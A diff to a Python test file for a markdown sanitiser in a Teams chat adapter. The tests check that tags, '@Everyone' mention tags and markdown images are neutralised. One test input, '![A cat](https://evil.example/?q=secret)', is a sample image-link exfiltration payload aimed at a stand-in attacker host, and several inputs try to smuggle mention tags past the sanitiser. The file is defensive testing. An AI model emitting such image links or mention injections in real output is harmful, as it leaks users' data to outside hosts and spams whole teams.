@@ -16,7 +16,9 @@ from adapters.teams.dialect import settled, translate
     ("source", "shown"),
     [
         ("", ""),
-        ("A **red** car, `x < 3`", "A **red** car, `x &lt; 3`"),
+        ("A **red** car < 3", "A **red** car &lt; 3"),
+        ("`x < 3` `<at>` `![a](b)`", "`x < 3` `<\u2060at>` `!\u2060[a](b)`"),
+        ("``a ` < b`` `c < d", "``a ` < b`` `c &lt; d"),
         ("# Title", "**Title**"),
         ("### The **bold** one ###", "**The bold one**"),
         ("# C#", "**C#**"),
@@ -31,9 +33,9 @@ from adapters.teams.dialect import settled, translate
         ("[text](https://example.com/?a=1&b=2)", "[text](https://example.com/?a=1&b=2)"),
         ("![A cat](https://evil.example/?q=secret)", "A cat"),
         ("[![A cat](https://a.example/b)](https://c.example)", "[A cat](https://c.example)"),
-        ("![A cat][ref]", r"!\[A cat][ref]"),
-        ("![a[b]](https://a.example)", r"!\[a[b]](https://a.example)"),
-        ("```\n# no title\n| no | row |\nvec![1]\n```\n# Title", None),
+        ("![A cat][ref]", "!\u2060[A cat][ref]"),
+        ("![a[b]](https://a.example)", "!\u2060[a[b]](https://a.example)"),
+        ("```\n# no title\n| no | row |\nx < y\n```\n# Title", None),
         ("~~~\n```\n# no title\n~~~\n# Title", None),
     ],
 )
@@ -53,14 +55,17 @@ def test_how_markdown_is_shown(source, shown):
         "# <at>Everyone</at>",
         "| <at>Everyone</at> | b |",
         "```\n<at>Everyone</at>\n```",
+        "`<at>Everyone</at>` ``<!-- `` `</at>",
+        "``` a`b\n<at>Everyone</at>",
         "![<at>Everyone</at>](x)",
         "<<at>at>",
     ],
 )
 def test_no_tag_passes(source):
-    assert "<" not in translate(source)
+    assert not TAG.search(translate(source))
 
 
+TAG = re.compile(r"<[A-Za-z/!?]")
 MARKDOWN = st.lists(
     st.sampled_from(
         [*"# |-`~![]()<>\n\n*", "\n# ", "```", "~~~\n", "![a](b)", "| x |", "|--|", "<at>", "word "]
@@ -72,9 +77,8 @@ MARKDOWN = st.lists(
 @given(MARKDOWN)
 def test_nothing_harmful_passes(source):
     shown = translate(source)
-    assert "<" not in shown
-    outside = re.sub(r"(?ms)^ {0,3}(```+|~~~+).*?(^ {0,3}\1[ \t]*$|\Z)", "", shown)
-    assert "![" not in outside
+    assert not TAG.search(shown)
+    assert "![" not in shown
 
 
 @given(MARKDOWN, st.integers(0, 100))
@@ -98,7 +102,7 @@ def test_a_growing_text_only_grows(source, more):
         shown = grown
 
 
-@pytest.mark.parametrize("text", ["A red car", "It says #3", "- one\n- two", "**bold** `code`"])
+@pytest.mark.parametrize("text", ["A red car", "It says #3", "- one\n- two", "**bold** `code` it"])
 def test_ordinary_words_are_settled_at_once(text):
     assert settled(text) == text
 
